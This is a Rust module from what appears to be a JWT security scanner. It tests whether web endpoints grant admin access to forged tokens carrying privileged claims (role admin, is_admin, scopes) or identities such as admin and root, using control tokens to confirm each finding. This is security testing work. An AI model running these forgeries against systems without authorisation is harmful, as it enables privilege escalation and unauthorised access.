//! Privilege escalation: with signing ability (a recovered or given key, or a signature
//! that is not verified), tokens with privileged claims on the endpoints that refuse the
//! valid token (401/403). A finding needs the privileged forgery to get a success while the
//! same forgery without the privileged claims is refused.

use crate::attacks::claims::{Maker, fresh_claims};
use crate::context::{Ctx, State, finding, is_2xx, set};
use crate::http::{Req, Resp};
use crate::oracle::{self, Whose};
use crate::rules::PRIVILEGE_ESCALATION;
use jwtward_jose::Jws;
use serde_json::{Value, json};
use std::sync::atomic::Ordering;

/// jwtward can make tokens the server may accept.
pub fn can_forge(ctx: &Ctx) -> bool {
    ctx.signing().is_some() || ctx.unverified_seen.load(Ordering::Relaxed)
}

fn maker(ctx: &Ctx) -> Option<Maker> {
    match ctx.signing() {
        Some(s) => Some(Maker::Key(Box::new(s))),
        None => ctx
            .unverified_seen
            .load(Ordering::Relaxed)
            .then_some(Maker::Tamper),
    }
}

/// The privileged claims tried, each as `(claim, value)`.
fn privileged(payload: &Value) -> Vec<(&'static str, Value)> {
    let scope = match payload.get("scope").and_then(Value::as_str) {
        Some(s) if !s.is_empty() => format!("{s} admin"),
        _ => "admin".to_string(),
    };
    vec![
        ("role", json!("admin")),
        ("roles", json!(["admin"])),
        ("scope", json!(scope)),
        ("scopes", json!(["admin"])),
        ("groups", json!(["admin"])),
        ("permissions", json!(["admin"])),
        ("is_admin", json!(true)),
        ("is_superuser", json!(true)),
        ("admin", json!(true)),
        ("is_staff", json!(true)),
    ]
}

/// A success that no rejection looks like.
fn success(st: &State, r: &Resp) -> bool {
    let Some(p) = &st.profile else { return false };
    is_2xx(r)
        && p.like_rejection(r).is_none()
        && !p.like_valid(r)
        && !oracle::looks_like_auth_error(&r.body)
}

async fn try_token(ctx: &Ctx, st: &State, token: &str) -> Option<(bool, Req, Resp)> {
    let req = ctx.request(&st.ep, Some(token));
    let resp = ctx.send(&req).await?;
    Some((success(st, &resp), req, resp))
}

pub async fn run(ctx: &Ctx, st: &State) {
    let (Some(jws), Some(maker)) = (ctx.jws(), maker(ctx)) else {
        return;
    };
    let Some(payload) = jws.payload().filter(|p| p.is_object()).cloned() else {
        return;
    };
    let fresh = fresh_claims(&payload);
    if !st.refused() {
        more_data(ctx, st, &maker, jws, &fresh).await;
        return;
    }
    // The control: the same forgery without privileged claims must be refused.
    let Some(control) = maker.make(jws, &fresh) else {
        return;
    };
    match try_token(ctx, st, &control).await {
        Some((false, _, _)) => {}
        _ => return,
    }
    if let Some(hit) = claim_escalation(ctx, st, &maker, jws, &fresh).await {
        report(ctx, st, &maker, hit);
        return;
    }
    if let Some(hit) = identity_escalation(ctx, st, &maker, jws, &fresh).await {
        report(ctx, st, &maker, hit);
    }
}

type Hit = (String, Req, Resp);

/// The JSON object keys of a body, at any depth (`/a/b`), arrays looked through.
fn keys(r: &Resp) -> Option<std::collections::BTreeSet<String>> {
    fn walk(v: &Value, at: &str, out: &mut std::collections::BTreeSet<String>, depth: usize) {
        if depth > 8 {
            return;
        }
        match v {
            Value::Object(m) => {
                for (k, x) in m {
                    let p = format!("{at}/{k}");
                    walk(x, &p, out, depth + 1);
                    out.insert(p);
                }
            }
            Value::Array(a) => {
                for x in a.iter().take(20) {
                    walk(x, at, out, depth + 1);
                }
            }
            _ => {}
        }
    }
    let v: Value = serde_json::from_slice(&r.body).ok()?;
    let mut out = std::collections::BTreeSet::new();
    walk(&v, "", &mut out, 0);
    Some(out)
}

/// On an endpoint the valid token opens: the privileged forgery gets every field of the
/// valid answer and more, while the same forgery without privileged claims gets the valid
/// answer itself.
async fn more_data(ctx: &Ctx, st: &State, maker: &Maker, jws: &Jws, fresh: &Value) {
    let (Some(p), Some((_, valid))) = (&st.profile, &st.valid) else {
        return;
    };
    if st.ep.unsafe_op {
        return;
    }
    let Some(base) = keys(valid) else { return };
    let Some(control) = maker.make(jws, fresh) else {
        return;
    };
    let req = ctx.request(&st.ep, Some(&control));
    match ctx.send(&req).await {
        Some(r) if p.like_valid(&r) => {}
        _ => return,
    }
    let mut all = fresh.clone();
    for (k, v) in privileged(fresh) {
        set(&mut all, k, v);
    }
    let Some(t) = maker.make(jws, &all) else {
        return;
    };
    let req = ctx.request(&st.ep, Some(&t));
    let Some(resp) = ctx.send(&req).await else {
        return;
    };
    if !is_2xx(&resp) || resp.status != valid.status {
        return;
    }
    let Some(got) = keys(&resp) else { return };
    let extra: Vec<&String> = got.difference(&base).collect();
    if base.is_subset(&got) && !extra.is_empty() {
        let list: Vec<String> = extra.iter().take(5).map(|k| format!("`{k}`")).collect();
        // The same user with more, or the answer of another identity.
        let whose = match oracle::named_user(valid, &ctx.own_identity(), &resp) {
            Some(Whose::Same(why)) => format!(" to the same user ({why})"),
            Some(Whose::Other(why)) => format!(", as another identity ({why})"),
            _ => String::new(),
        };
        ctx.push_finding(finding(
            &PRIVILEGE_ESCALATION,
            st,
            format!(
                "{} {} answers a token with privileged claims (role admin, is_admin...) with fields the valid token does not get ({}){whose}, {}",
                st.ep.method,
                st.ep.path,
                list.join(", "),
                maker.describe()
            ),
            &req,
            &resp,
        ));
    }
}

async fn claim_escalation(
    ctx: &Ctx,
    st: &State,
    maker: &Maker,
    jws: &Jws,
    fresh: &Value,
) -> Option<Hit> {
    let claims = privileged(fresh);
    let mut all = fresh.clone();
    for (k, v) in &claims {
        set(&mut all, k, v.clone());
    }
    let (ok, req, resp) = try_token(ctx, st, &maker.make(jws, &all)?).await?;
    if !ok {
        return None;
    }
    // Which claim alone is enough?
    for (k, v) in &claims {
        let mut one = fresh.clone();
        set(&mut one, k, v.clone());
        let Some(t) = maker.make(jws, &one) else {
            continue;
        };
        if let Some((true, r1, s1)) = try_token(ctx, st, &t).await {
            return Some((format!("`{k}: {v}`"), r1, s1));
        }
    }
    let list: Vec<String> = claims.iter().map(|(k, _)| format!("`{k}`")).collect();
    Some((
        format!("the privileged claims {}", list.join(", ")),
        req,
        resp,
    ))
}

async fn identity_escalation(
    ctx: &Ctx,
    st: &State,
    maker: &Maker,
    jws: &Jws,
    fresh: &Value,
) -> Option<Hit> {
    let identity = ctx
        .identity
        .lock()
        .expect("identity")
        .clone()
        .unwrap_or_else(|| "sub".to_string());
    let mut names: Vec<String> = ["admin", "root", "administrator", "superuser"]
        .iter()
        .map(|s| s.to_string())
        .collect();
    let own = fresh
        .get(&identity)
        .and_then(Value::as_str)
        .map(str::to_string);
    for n in ctx.names_seen.lock().expect("names").iter().take(6) {
        if !names.contains(n) && own.as_deref() != Some(n) {
            names.push(n.clone());
        }
    }
    for n in names {
        let mut c = fresh.clone();
        set(&mut c, &identity, Value::String(n.clone()));
        let Some(t) = maker.make(jws, &c) else {
            continue;
        };
        if let Some((true, r, s)) = try_token(ctx, st, &t).await {
            return Some((format!("`{identity}: {n}`"), r, s));
        }
    }
    None
}

fn report(ctx: &Ctx, st: &State, maker: &Maker, (what, req, resp): Hit) {
    let valid = st.valid.as_ref().map(|(_, r)| r.status).unwrap_or(0);
    ctx.push_finding(finding(
        &PRIVILEGE_ESCALATION,
        st,
        format!(
            "{} {} refuses the valid token ({valid}) and the same token re-made without privileged claims, but answers {} to a token with {what}, {}",
            st.ep.method,
            st.ep.path,
            resp.status,
            maker.describe()
        ),
        &req,
        &resp,
    ));
}
